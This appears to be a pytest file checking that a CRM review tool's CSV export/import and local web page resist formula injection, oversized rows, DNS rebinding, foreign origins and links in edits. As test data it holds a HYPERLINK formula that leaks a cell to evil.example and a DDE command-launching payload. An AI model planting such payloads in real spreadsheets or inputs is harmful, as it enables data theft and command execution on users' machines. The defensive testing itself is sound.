"""The review CSVs and page against hostile input: formula injection, oversized and repeated rows, DNS rebinding
and foreign origins (issue 22, point 6). On a real warehouse (review_fixtures) and the real app."""

from __future__ import annotations

import csv

import duckdb
from starlette.testclient import TestClient

from crmagent_dagster import cli
from crmagent_dagster.review import csvio
from crmagent_dagster.review.server import SECURITY_HEADERS, create_app
from review_fixtures import review_db, scenario  # noqa: F401  (fixtures)

FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1")


def _export(s, db: str, path) -> list[dict[str, str]]:
    assert cli.main(["review", "export", "--month", s.month, "--segment", s.segment, "--out", str(path),
                     "--db", db]) == 0
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _write(path, rows) -> None:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        w = csv.DictWriter(f, fieldnames=csvio.COLUMNS)
        w.writeheader()
        w.writerows(rows)


def test_export_runs_no_formula_and_import_reads_the_text_back(scenario, review_db, tmp_path, reliability):  # noqa: F811
    s = scenario
    with duckdb.connect(review_db) as conn:  # a hostile title in the warehouse and a reviewer named like a formula
        conn.execute("UPDATE agents.template_rewrites SET new_title = $t WHERE aggregate_id = $a",
                     {"t": FORMULAS[0], "a": s.approve_id})
    rows = _export(s, review_db, tmp_path / "a.csv")
    leading = [(r["aggregate_id"], k) for r in rows for k, v in r.items() if v.startswith(("=", "+", "-", "@", "\t"))]
    assert leading == [], leading[:3]
    by_id = {r["aggregate_id"]: r for r in rows}
    assert by_id[s.approve_id]["new_title"] == "'" + FORMULAS[0]
    by_id[s.approve_id].update(decision="approve", note="-looks fine")
    _write(tmp_path / "a.csv", rows)
    with duckdb.connect(review_db) as conn:
        report = csvio.import_file(conn, tmp_path / "a.csv", "=cmd|' /C calc'!A0")
        note = conn.execute("SELECT note FROM agents.rewrite_reviews WHERE aggregate_id = $a",
                            {"a": s.approve_id}).fetchall()
    assert [str(p) for p in report.problems] == [] and len(report.recorded) == 1  # the title matched, unescaped
    assert note == [("-looks fine",)]
    again = _export(s, review_db, tmp_path / "b.csv")
    assert {r["current_reviewer"] for r in again if r["aggregate_id"] == s.approve_id} == {"'=cmd|' /C calc'!A0"}
    reliability.record("review_csv", cells_checked=sum(len(r) for r in rows), formula_cells=len(leading))


def test_an_oversized_cell_is_a_row_numbered_problem_and_repeats_record_once(scenario, review_db, tmp_path,  # noqa: F811
                                                                             reliability):
    s = scenario
    rows = _export(s, review_db, tmp_path / "c.csv")
    by_id = {r["aggregate_id"]: r for r in rows}
    by_id[s.reject_id].update(decision="reject", note="x" * 200_000)
    approve = {**by_id[s.approve_id], "decision": "approve"}
    rows = rows + [approve] * 2_000
    _write(tmp_path / "c.csv", rows)
    row_of_reject = next(n for n, r in enumerate(rows, start=2) if r["aggregate_id"] == s.reject_id)
    with duckdb.connect(review_db) as conn:
        report = csvio.import_file(conn, tmp_path / "c.csv", "Ana")
        history = conn.execute("SELECT count(*) FROM agents.rewrite_reviews WHERE aggregate_id = $a",
                               {"a": s.approve_id}).fetchall()[0][0]
    assert [str(p) for p in report.problems] == [f"row {row_of_reject}, note: 200,000 characters; a cell holds at "
                                                 f"most {csvio.MAX_CELL:,}"]
    assert history == 1 and report.unchanged == 1_999
    reliability.record("review_csv", rows_lost=0, repeated_rows=2_000, history_rows=history)


def test_the_page_refuses_a_rebound_host_and_a_foreign_origin_and_sends_security_headers(review_db, scenario,  # noqa: F811
                                                                                          reliability):
    s = scenario
    app = create_app(review_db)
    rebound = TestClient(app, base_url="http://evil.example:3001")
    assert rebound.get("/").status_code == 400
    assert rebound.post("/api/decisions", json={}).status_code == 400
    local = TestClient(app, base_url="http://127.0.0.1:3001")
    page = local.get("/")
    assert page.status_code == 200
    assert {k: page.headers.get(k) for k in SECURITY_HEADERS} == SECURITY_HEADERS
    body = {"month": s.month, "segment": s.segment, "aggregate_id": s.approve_id, "decision": "approve",
            "reviewer": "mallory"}
    foreign = local.post("/api/decisions", json=body, headers={"Origin": "http://evil.example"})
    assert foreign.status_code == 403
    own = local.post("/api/decisions", json=body, headers={"Origin": "http://127.0.0.1:3001"})
    assert own.status_code == 200, own.text
    named = TestClient(create_app(review_db, allowed_hosts=("review.team.internal",)),
                       base_url="http://review.team.internal")
    assert named.get("/api/months").status_code == 200
    reliability.record("review_page", refused=3)


def test_an_edit_that_adds_a_link_is_blocked_whatever_its_tld(scenario, review_db, reliability):  # noqa: F811
    import pytest

    from crmagent_dagster.review import store
    from crmagent_dagster.review.store import EditBlocked, ReviewDecision

    s = scenario
    blocked = 0
    for link in ("http://evil.example/?leak=1", "promo.shop.onion", "login.corp.internal/x", "a.b.test"):
        d = ReviewDecision(s.month, s.segment, s.edit_id, "edit", "ana", edited_title=s.edit_title,
                           edited_body=s.valid_body + f" Details: {link}")
        with duckdb.connect(review_db) as conn, pytest.raises(EditBlocked) as e:
            store.record(conn, d)
        assert any(not c.passed and link.split("/")[0].split("//")[-1] in c.reason for c in e.value.checks), link
        blocked += 1
    reliability.record("review_edit_links", refused=blocked)
